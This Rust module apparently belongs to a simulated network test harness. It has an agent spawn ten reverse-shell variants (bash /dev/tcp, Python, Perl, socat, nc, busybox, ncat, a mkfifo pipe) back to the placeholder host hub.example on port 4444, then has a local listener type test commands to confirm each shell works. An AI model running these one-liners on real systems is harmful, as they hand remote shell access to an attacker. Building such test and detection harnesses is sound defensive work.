//! Shells of the agent's that somebody outside types into.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};

use super::{Outcome, explain};
use crate::agent::Agent;
use crate::services::address;
use crate::traffic::Exchanged;
use crate::world::OTHER_SERVER;

const PORT: u16 = 4444;
const TIMEOUT: Duration = Duration::from_secs(10);
/// Longer than a shell takes to show its prompt, so that each line is one exchange.
const PACE: Duration = Duration::from_millis(300);
/// What is typed, and what shows that it was run.
const LINES: [(&str, &str); 5] = [
    ("id -u\n", "0"),
    ("cd /tmp\n", ""),
    ("cat /proc/self/comm\n", "cat"),
    ("echo answer-$((6 * 7))\n", "answer-42"),
    ("echo over-$((40 + 2))\n", "over-42"),
];

pub(super) fn bash_dev_tcp(agent: &Agent) -> Result<Outcome> {
    operate(
        agent,
        &["bash", "-c", "bash -i >& /dev/tcp/hub.example/4444 0>&1"],
    )
}

pub(super) fn python_dup2(agent: &Agent) -> Result<Outcome> {
    let script = "import os, socket, subprocess\n\
        s = socket.create_connection(('hub.example', 4444))\n\
        for fd in range(3):\n    os.dup2(s.fileno(), fd)\n\
        subprocess.call(['/bin/sh', '-i'])";
    operate(agent, &["python3", "-c", script])
}

pub(super) fn python_pty(agent: &Agent) -> Result<Outcome> {
    let script = "import os, pty, socket\n\
        s = socket.create_connection(('hub.example', 4444))\n\
        for fd in range(3):\n    os.dup2(s.fileno(), fd)\n\
        pty.spawn('/bin/bash')";
    operate(agent, &["python3", "-c", script])
}

pub(super) fn perl(agent: &Agent) -> Result<Outcome> {
    let script = "use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp') || 6); \
        connect(S, sockaddr_in(4444, inet_aton('192.0.2.1'))) or die; \
        open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');";
    operate(agent, &["perl", "-e", script])
}

pub(super) fn socat(agent: &Agent) -> Result<Outcome> {
    operate(agent, &["socat", "TCP:hub.example:4444", "EXEC:/bin/sh"])
}

pub(super) fn socat_pty(agent: &Agent) -> Result<Outcome> {
    let shell = "EXEC:'bash -i',pty,stderr,setsid,sigint,sane";
    operate(agent, &["socat", "TCP:hub.example:4444", shell])
}

/// The shell takes nc's place.
pub(super) fn nc(agent: &Agent) -> Result<Outcome> {
    operate(
        agent,
        &["nc.traditional", "-e", "/bin/sh", "hub.example", "4444"],
    )
}

pub(super) fn busybox(agent: &Agent) -> Result<Outcome> {
    let argv = ["busybox", "nc", "hub.example", "4444", "-e", "/bin/sh"];
    operate(agent, &argv)
}

/// The shell, which is not interactive, is between two pipes of ncat's.
pub(super) fn ncat(agent: &Agent) -> Result<Outcome> {
    operate(agent, &["ncat", "--exec", "/bin/sh", "hub.example", "4444"])
}

/// As with an nc that cannot start a program.
pub(super) fn pipes(agent: &Agent) -> Result<Outcome> {
    let script = "rm -f /tmp/f; mkfifo /tmp/f; \
        cat /tmp/f | /bin/sh -i 2>&1 | socat - TCP:hub.example:4444 > /tmp/f";
    operate(agent, &["sh", "-c", script])
}

/// Waits for the shell that `argv` brings, and uses it.
fn operate(agent: &Agent, argv: &[&str]) -> Result<Outcome> {
    let remote = address(OTHER_SERVER, PORT)?;
    let listener = agent.world().net().run(|| listen(remote))?;
    let shell = agent.spawn(argv)?;
    let bytes = explain(use_shell(&listener), &shell)?;
    Ok(Outcome {
        remote,
        service: None,
        exchanged: Exchanged {
            exchanges: LINES.len().try_into()?,
            bytes,
        },
    })
}

fn listen(at: SocketAddr) -> Result<TcpListener> {
    let listener = TcpListener::bind(at).with_context(|| format!("listen at {at}"))?;
    listener.set_nonblocking(true)?;
    Ok(listener)
}

/// Types, and gives how many bytes came back.
fn use_shell(listener: &TcpListener) -> Result<u64> {
    let accept = || match listener.accept() {
        Ok((stream, _)) => Ok(Some(stream)),
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => Ok(None),
        Err(error) => Err(error.into()),
    };
    let mut stream: TcpStream = crate::wait::until("a shell", TIMEOUT, accept)?;
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(PACE))?;
    let mut said = read(&mut stream, "")?;
    for (line, answer) in LINES {
        stream.write_all(line.as_bytes())?;
        said += &read(&mut stream, answer)?;
    }
    Ok(said.len() as u64)
}

/// What comes until `answer` has, and then nothing more for a while.
fn read(stream: &mut TcpStream, answer: &str) -> Result<String> {
    let begun = Instant::now();
    let mut said = String::new();
    let mut buffer = [0; 4096];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(read) => said += &String::from_utf8_lossy(&buffer[..read]),
            // Quiet for the time that reading may take.
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {
                if said.contains(answer) || begun.elapsed() > TIMEOUT {
                    break;
                }
            }
            Err(error) => return Err(error.into()),
        }
    }
    ensure!(said.contains(answer), "no {answer:?} in {said:?}");
    Ok(said)
}
